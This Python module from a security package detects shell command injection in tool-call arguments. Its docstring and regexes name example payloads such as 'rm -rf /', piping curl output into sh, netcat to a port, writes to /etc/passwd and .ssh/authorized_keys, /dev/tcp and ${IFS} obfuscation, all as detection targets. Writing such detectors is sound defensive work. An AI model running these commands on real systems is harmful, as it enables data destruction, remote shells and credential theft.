"""High-confidence shell (OS command) injection detection for tool-call string arguments.

A value is suspicious when a server might paste it into a shell command line: what matters
is whether it can *end* the intended command and *start* another. The detector looks for

- ``BST-SH-001`` a command separator (``;``, ``|``, ``||``, ``&``, ``&&``) followed by a
  word that is a command *and* has that command's argument shape (``; rm -rf /``,
  ``| nc host 4444``, ``&& curl http://x | sh``; see ``_shell_commands``);
- ``BST-SH-002`` command substitution, ``$(...)`` or backticks, around a command;
- ``BST-SH-003`` redirection into or out of a sensitive path (``> /etc/passwd``,
  ``>> ~/.ssh/authorized_keys``), or bash's ``/dev/tcp`` network pseudo-files;
- ``BST-SH-004`` expansion tricks that only shell payloads use: ``${IFS}``, ``$IFS$9``,
  ``${PATH:0:1}``, ANSI-C hex strings ``$'\\x63'``, all-wildcard paths ``/???/c?t``;
- ``BST-SH-005`` a new line followed by an attack-typical command (values with at most two
  line breaks; longer texts are documents, where new lines are not separators).

Every rule also runs on the value URL-decoded once and on a de-obfuscated copy (``${IFS}``
as a space, quotes and backslashes inside words removed, ``{cat,/etc/passwd}`` brace lists
opened). Like the SQL detector it analyses at most the first 8 KiB and the last 1 KiB, and
values without any shell metacharacter return ``None`` at once. CWE-78.
"""

from __future__ import annotations

import re
from urllib.parse import unquote

from mcp_bastion.detectors._shell_commands import COMMANDS, arg_shapes
from mcp_bastion.detectors.sqli import InjectionMatch, bounded

__all__ = ["detect_shell_injection"]

_SUSPICIOUS = re.compile(r"[;&|`$\n\r<>{%\\]")
_PERCENT = re.compile(r"%[0-9a-fA-F]{2}")
_SEPARATOR = re.compile(r";|&&|\|\||\||&|\n|\r")
_DOLLAR_PAREN = re.compile(r"\$\(")
_BACKTICK = re.compile(r"(?<!`)`(?!`)")
_WORD = re.compile(r"[^\s;&|`()<>]{1,200}")
_LEAD = re.compile(r"[\s({!]*")
_REDIRECT = re.compile(
    r"(?:>>?|<)\s*(?:/etc/|/root/|/var/www|/var/spool/cron|/boot/|/bin/|/sbin/|/usr/(?:s?bin|lib)|"
    r"~?/?\.ssh/|(?:~|/home/[^/\s]+)/\.(?:bashrc|profile|ssh)|/proc/self|[A-Za-z]:\\windows)",
    re.IGNORECASE,
)
_DEV_NET = re.compile(r"/dev/(?:tcp|udp)/")
# Each starts with a literal (``$`` or ``/``) so the regex engine can skip ahead cheaply.
_DOLLAR_TRICKS = re.compile(
    r"\$(?:\{IFS\}|IFS\b|\{[A-Za-z_]\w*:-?\d+(?::\d+)?\}|'(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){2})"
)
_GLOB_PATH = re.compile(r"/[?*]{2,4}/[\w?*]*[?*][\w?*]*")
_SPAN_LEFT = frozenset(";|&\n\r'\"(=")
_WORD_GAP = frozenset(" \t\n\r;|&")
_IFS = re.compile(r"\$\{IFS\}|\$IFS(?:\$\d)?")
_INWORD_QUOTE = re.compile(r"(?<=\w)(?:''|\"\"|['\"\\])(?=\w)|\$@")
# Obfuscation only matters where a command word starts: after a separator or ``$(``.
_OBFUSCATION_HINT = re.compile(r"(?:[;&|`\n\r]|\$\()\s*[\w/.]*(?:['\"\\{]|\$[@{*I])|\$IFS|\$\{IFS")
_BRACE_LIST = re.compile(r"\{([\w./-]{1,64}(?:,[^{},\s]{1,200}){1,8})\}")
_SEPARATOR_NAMES = {";": ";", "&&": "&&", "||": "||", "|": "|", "&": "&", "\n": "nl", "\r": "nl"}


def _variants(text: str) -> list[str]:
    out = [text]
    if _PERCENT.search(text):
        out.append(unquote(text))
    for base in list(out):
        if not _OBFUSCATION_HINT.search(base):
            continue  # nothing to undo: skip a second pass over ordinary text ("O'Brien")
        clean = _IFS.sub(" ", base)
        clean = _INWORD_QUOTE.sub("", clean)
        clean = _BRACE_LIST.sub(lambda m: m.group(1).replace(",", " "), clean)
        if clean != base:
            out.append(clean)
    return list(dict.fromkeys(out))


def _command_at(text: str, pos: int) -> tuple[str, list[str], str, int]:
    """Command word, its arguments, what ended them, and the end position, starting at ``pos``."""
    lead = _LEAD.match(text, pos)
    pos = lead.end() if lead else pos
    words: list[str] = []
    while len(words) < 6:
        while pos < len(text) and text[pos] in " \t":
            pos += 1
        match = _WORD.match(text, pos)
        if match is None or match.group().startswith("#"):
            break  # a shell comment ends the command as surely as a separator
        words.append(match.group())
        pos = match.end()
    terminator = text[pos] if pos < len(text) else ""
    if terminator == "#":
        terminator = ""
    if terminator == ">":
        words.append(">")
    if not words:
        return "", [], terminator, pos
    return words[0], words[1:], terminator, pos


def _score(word: str, args: list[str], terminator: str, context: str) -> float:
    """Confidence that ``word args`` is a command, for a separator or substitution ``context``."""
    name = word.rsplit("/", 1)[-1] if word.startswith("/") else word
    if name.lower() in ("whoami", "ipconfig", "powershell", "certutil", "systeminfo", "tasklist"):
        name = name.lower()  # Windows command names are case-insensitive
    command = COMMANDS.get(name)
    absolute = word.startswith(("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/"))
    if command is None:
        return 0.95 if absolute and context != "`" else 0.0
    bare_end = terminator in ("", ";", "&", "\n", "\r", "#") or (
        context in ("$(", "`") and terminator in (")", "`")
    )
    shapes = arg_shapes(args)
    if not args and bare_end:
        shapes.add("bare")
        if context == "|":
            shapes.add("bare-pipe")  # ``| sh``: a pipe into a shell needs no argument
    if not shapes & command.shapes and not absolute:
        return 0.0
    if context in ("`", "nl") and not command.attack:
        return 0.8
    if context == "$(" and not command.attack:
        return 0.85  # ``"$(pwd)"`` is everyday shell; it runs a command but rarely an attack
    return 0.9 if context == "nl" else 0.95


def _separators(text: str) -> InjectionMatch | None:
    lines = text.count("\n") + text.count("\r")
    fenced = "```" in text  # a Markdown code block: its lines are documentation, not input
    best: InjectionMatch | None = None
    for match in _SEPARATOR.finditer(text):
        context = _SEPARATOR_NAMES[match.group()]
        if context == "nl" and (lines > 2 or fenced):
            continue
        word, args, terminator, _ = _command_at(text, match.end())
        if not word:
            continue
        conf = _score(word, args, terminator, context)
        if conf and (best is None or conf > best.confidence):
            rule = "BST-SH-005" if context == "nl" else "BST-SH-001"
            reason = "command after a line break" if context == "nl" else "command after a shell separator"
            best = InjectionMatch(rule, "shell", conf, f"{context}{word[:16]}", reason)
            if conf >= 0.95:
                break
    return best


def _markdown_span(text: str, start: int) -> bool:
    """True when the backtick span at ``start`` sits in prose like Markdown code (`` run `ls` now``).

    Payloads glue the span to a word (``x`id`.png``) or start the value or a command with
    it (``; `id` #``); a span between blanks after other words is read as code.
    """
    close = text.find("`", start + 1)
    line_start = text.rfind("\n", 0, start) + 1
    line_end = text.find("\n", close)
    line = text[line_start : len(text) if line_end < 0 else line_end].strip()
    if line.startswith("|") and line.endswith("|") and line.count("|") >= 3:
        return True  # a cell of a Markdown table row
    before, after = text[:start], text[close + 1 :]
    if (before and not before[-1].isspace()) or (
        after and not after[0].isspace() and after[0] not in ".,:;!?)"
    ):
        return False
    left = before.rstrip()
    # At the start of the value or of a command: what follows cannot make it prose, so a
    # trailing suffix never hides ``\`id\` anything``.
    return not (not left or left[-1] in _SPAN_LEFT)


def _openers(text: str) -> list[tuple[int, str]]:
    """Positions of ``$(`` and of opening backticks (backticks pair in order; ```` `` ```` is skipped)."""
    found = [(m.start(), "$(") for m in _DOLLAR_PAREN.finditer(text)] if "$(" in text else []
    if "`" in text:
        ticks = [m.start() for m in _BACKTICK.finditer(text)]
        found += [(pos, "`") for pos in ticks[0 : len(ticks) - 1 : 2]]
    return sorted(found)


def _substitutions(text: str) -> InjectionMatch | None:
    best: InjectionMatch | None = None
    for start, context in _openers(text):
        word, args, terminator, _ = _command_at(text, start + len(context))
        conf = _score(word, args, terminator, context) if word else 0.0
        if context == "`" and conf > 0.8 and _markdown_span(text, start):
            conf = 0.8
        if conf and (best is None or conf > best.confidence):
            best = InjectionMatch(
                "BST-SH-002", "shell", conf, f"{context}{word[:16]}", "command substitution"
            )
            if conf >= 0.95:
                break
    return best


def _patterns(text: str) -> InjectionMatch | None:
    # Plain substring tests first: the regexes have no literal prefix to skip ahead with.
    if (("<" in text or ">" in text) and _REDIRECT.search(text)) or _DEV_NET.search(text):
        return InjectionMatch("BST-SH-003", "shell", 0.95, ">path", "redirection to a sensitive path")
    trick = _DOLLAR_TRICKS.search(text) if "$" in text else None
    if trick is None and ("/?" in text or "/*" in text):
        # ``/???/c?t``: only as a word of its own (start, blank or separator before it).
        trick = next(
            (m for m in _GLOB_PATH.finditer(text) if m.start() == 0 or text[m.start() - 1] in _WORD_GAP), None
        )
    if trick:
        return InjectionMatch("BST-SH-004", "shell", 0.95, trick.group()[:16], "shell expansion trick")
    return None


def detect_shell_injection(value: str) -> InjectionMatch | None:
    """Return the strongest shell-injection finding in ``value``, or ``None`` if it looks benign."""
    if not _SUSPICIOUS.search(value):
        return None
    best: InjectionMatch | None = None
    for text in _variants(bounded(value)):
        for rule in (_patterns, _substitutions, _separators):
            found = rule(text)
            if found is not None and (best is None or found.confidence > best.confidence):
                best = found
                if best.confidence >= 0.95:
                    return best
    return best
